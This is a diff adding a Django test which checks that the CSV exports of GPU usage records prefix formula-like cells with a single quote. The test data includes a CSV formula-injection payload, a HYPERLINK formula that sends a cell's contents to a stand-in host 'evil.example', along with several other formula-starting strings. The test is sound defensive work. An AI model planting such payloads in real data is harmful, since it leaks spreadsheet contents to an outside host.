@@ -93,3 +93,63 @@ def test_a_gpu_that_stops_parsing_keeps_its_row_and_units_and_is_marked(
     apiserver.request("PATCH", f"{GPUS}/namespaces/t1/gpus/vm1-gpu0", fixed)
     sync.sync_once()
     assert models.GpuDevice.objects.get(name="vm1-gpu0").parse_error == ""
+
+
+# -- 2. CSV formula injection -----------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def _formula_records() -> None:
+    from datetime import timedelta
+
+    from tests.shapes import NOW
+    from usage.models import UsageRecord
+
+    models.Namespace.objects.create(name="t1")
+    for index, text in enumerate(FORMULAS):
+        UsageRecord.objects.create(
+            namespace="t1", subject_kind="GPU", subject=f"g{index}", vm_name=text, key=text, resource_name=H100,
+            units=1, node="n1", phase="Bound", start=NOW - timedelta(hours=2), end=NOW - timedelta(hours=1),
+        )  # fmt: skip
+
+
+def _cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _assert_no_formula(cells: list[str]) -> None:
+    starting = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())]
+    assert starting == [], starting
+    for text in FORMULAS:
+        assert "'" + text in cells, text
+
+
+@pytest.mark.django_db
+def test_csv_exports_neutralise_cells_that_start_like_a_formula(clock: Any) -> None:
+    """OWASP's rule in every export: a cell starting with =, +, -, @, tab or CR gets a
+    leading single quote, so a tenant's vmName never runs as a formula in staff's sheet."""
+    from django.contrib.auth.models import User
+    from django.test import Client
+
+    from tests.accounts import account, token_client
+
+    _formula_records()
+    api = token_client(account("alice", "t1"))
+    answer = api.get("/api/v1/tenants/t1/usage-records", {"format": "csv"})
+    assert answer.status_code == 200
+    _assert_no_formula(_cells(b"".join(answer.streaming_content).decode()))
+
+    root = User.objects.create_superuser("root", password="x")
+    staff = Client()
+    staff.force_login(root)
+    export = staff.get("/admin/usage/usagerecord/export.csv")
+    assert export.status_code == 200
+    _assert_no_formula(_cells(b"".join(export.streaming_content).decode()))
+    chart = staff.get("/admin/usage-chart/", {"from": "2026-11-29", "to": "2026-11-30", "format": "csv"})
+    assert chart.status_code == 200, chart.content[:300]
+    cells = _cells(chart.content.decode())
+    assert "'" + FORMULAS[0] in cells and "'@SUM(A1)" in cells and "=" not in {c[:1] for c in cells}
